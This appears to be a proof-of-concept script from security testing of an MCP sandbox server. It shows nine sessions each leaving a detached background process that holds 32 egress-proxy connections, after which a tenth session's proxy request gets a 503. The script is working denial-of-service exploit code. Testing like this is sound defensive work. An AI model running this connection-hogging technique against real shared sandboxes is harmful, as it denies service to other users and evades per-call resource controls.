# F2 with reuse = "session", docker.max_sessions = 10, max_concurrent = 4 (default): nine sessions each leave a
# background process holding 32 proxy connections and return; with NO call running, a tenth session's sandbox gets 503.
import sys, os, json, time, subprocess, threading
sys.path.insert(0, "/work/notes/atk34")
os.environ["PORT"]="8938"; os.environ["TOK"]="atk34-token-0123456789abcdef0123"
import mcp
X="/tmp/atk34x"
env=dict(os.environ, HOME=X+"/home", XDG_STATE_HOME=X+"/home/.local/state")
srv=subprocess.Popen(["/tmp/atk34/mcpsandbox","serve","--policy",X+"/egsess.toml","--http","127.0.0.1:8938","--token-file",X+"/tok"],stderr=open(X+"/f2b.log","wb"),env=env)
time.sleep(1.5)
HOG=r'''
import os, subprocess
code = """
import socket, time, threading
def keep(i):
    end=time.time()+120
    while time.time()<end:
        try:
            s=socket.create_connection(("127.0.0.1",3128)); s.settimeout(40)
            d=s.recv(1)
            if d: time.sleep(0.5)
        except Exception: time.sleep(0.2)
ts=[threading.Thread(target=keep,args=(i,)) for i in range(32)]
[t.start() for t in ts]; [t.join() for t in ts]
"""
subprocess.Popen(["python3","-c",code], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("left a holder behind")
'''
VICTIM=r'''
import socket
s=socket.create_connection(("127.0.0.1",3128)); s.settimeout(15)
s.sendall(b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n")
print("victim got:", s.recv(300).decode(errors="replace").splitlines()[:1], flush=True)
'''
try:
    for i in range(9):
        h=mcp.Sess(); r=mcp.res(h.call("run_python_sandbox",{"code":HOG}))
        print("hog", i, (r[1][0]["result"]["structuredContent"]["stdout"].strip() if isinstance(r,tuple) or isinstance(r,list) else r))
    time.sleep(3)
    v=mcp.Sess()
    for k in range(2):
        r=v.call("run_python_sandbox",{"code":VICTIM})
        print("victim call %d (no other call running):"%k, r[1][0]["result"]["structuredContent"]["stdout"].strip())
        time.sleep(3)
finally:
    srv.terminate(); srv.wait()
